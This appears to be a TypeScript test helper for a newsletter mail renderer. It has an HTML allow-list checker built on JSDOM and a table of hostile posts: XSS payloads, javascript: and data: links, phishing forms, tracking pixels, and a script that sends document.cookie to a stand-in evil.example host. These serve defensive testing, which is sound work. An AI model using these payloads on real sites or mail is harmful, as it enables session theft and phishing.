import { JSDOM } from "jsdom";

// What a reader's mail client makes of a mail's HTML, and posts written to smuggle something past the
// mail renderer (server/newsletters/mail.ts): the unit tests and the web tier's tests share both.

/** What a mail may hold, element by element, with each element's attributes: the mails' allow-list. */
const ALLOWED: Record<string, readonly string[]> = {
  html: ["lang"],
  head: [],
  meta: ["charset", "name", "content"],
  title: [],
  body: ["style"],
  table: ["role", "width", "cellpadding", "cellspacing", "border", "style"],
  thead: [],
  tbody: [],
  tr: [],
  th: ["style"],
  td: ["align", "style"],
  h1: ["style"],
  h2: ["style"],
  h3: ["style"],
  h4: ["style"],
  p: ["style"],
  a: ["href", "style"],
  img: ["src", "alt", "width", "style"],
  ul: ["style"],
  ol: ["start", "style"],
  li: ["style"],
  blockquote: ["style"],
  pre: ["style"],
  code: ["style"],
  strong: [],
  em: [],
  del: [],
  br: [],
  hr: ["style"],
};

/**
 * The mail as a mail client builds it (an HTML parser, as a browser engine reads it), and every way it
 * breaks the allow-list: an element or attribute outside it, an href or src that is not an absolute
 * http, https or mailto address, a style that loads something.
 */
export function readerView(html: string): { document: Document; violations: string[] } {
  const { document } = new JSDOM(html).window;
  const violations: string[] = [];
  for (const node of document.querySelectorAll("*")) {
    const tag = node.localName;
    const allowed = ALLOWED[tag];
    if (!allowed || node.namespaceURI !== "http://www.w3.org/1999/xhtml") {
      violations.push(`element <${tag}>`);
      continue;
    }
    for (const { name, value } of node.attributes) {
      if (!allowed.includes(name)) violations.push(`attribute ${name} on <${tag}>`);
      if ((name === "href" || name === "src") && !(URL.canParse(value) && ["http:", "https:", "mailto:"].includes(new URL(value).protocol))) {
        violations.push(`${name}="${value}" on <${tag}>`);
      }
      if (name === "style" && /url\(|expression|@import|\\/i.test(value)) violations.push(`style "${value}" on <${tag}>`);
    }
  }
  // A comment or a processing instruction is no element, but nothing of a post belongs in one either.
  const walker = document.createTreeWalker(document, 128 /* NodeFilter.SHOW_COMMENT */);
  for (let comment = walker.nextNode(); comment; comment = walker.nextNode()) violations.push(`comment <!--${comment.textContent}-->`);
  return { document, violations };
}

/** Posts an editor could write to get something past the renderer, each kind of trick on its own. */
export const HOSTILE: Record<string, string> = {
  "backtick spans holding a phishing link, a form and a tracking pixel":
    'Please `<a href="https://evil.example/login">verify your account</a><form action="https://evil.example/steal" method="post"><input name="password"><button>Go</button></form><img src="https://track.example/p.gif?u=1" width="1" height="1">` now.',
  "a raw HTML block": '<div style="display:none">\n<iframe src="https://evil.example/frame"></iframe>\n<object data="https://evil.example/x.swf"></object>\n</div>',
  "inline HTML": 'Hello <b onclick="steal()">there</b> <span style="background:url(https://track.example/bg)">you</span> <script>alert(1)</script> <style>body{display:none}</style> <svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>',
  "a form and an iframe": '<form action="https://evil.example"><input type="submit" value="Confirm"></form>\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "style and script blocks": "<style>\n* { background: url(https://track.example/css) }\n</style>\n\n<script>\nfetch('https://evil.example/' + document.cookie)\n</script>",
  "javascript: and data: links": "[one](javascript:alert(1)) [two](JaVaScRiPt:alert(1)) [three](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [four](vbscript:msgbox) [five](<javascript:alert(1)>) <javascript:alert(1)> [six]( javascript:alert(1))",
  "images with tracking and script addresses": "![pixel](https://track.example/p.gif?u=1) ![data](data:image/gif;base64,R0lGODlhAQABAAAAACw=) ![js](javascript:alert(1)) <img src=https://track.example/raw.gif>",
  "attribute-breaking quotes": '[quote](<https://evil.example/" onmouseover="alert(1)>) ![" onerror="alert(1)](https://cdn.example/a.png) [t](https://ok.example "title\\" onclick=\\"x") [m](mailto:a@b.example?subject="x"onclick="y")',
  "entity tricks": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; [e](&#106;avascript:alert(1)) [f](&#x6A;avascript&#x3A;alert(1)) [g](java&#x09;script:alert(1)) `&lt;b&gt;` &amp;lt;i&amp;gt;",
  "nested Markdown": "**[`<img src=x onerror=alert(1)>`](javascript:alert(1))**\n\n> - [a ![b](javascript:x) <i>c</i>](https://ok.example/)\n>   - ~~<u>d</u>~~ `</code><script>alert(1)</script>`\n\n| `<td onclick=x>` | <b>y</b> |\n|---|---|\n| [z](data:,x) | ![w](https://track.example/t.gif) |\n\n- [ ] <input type=checkbox checked> task",
};
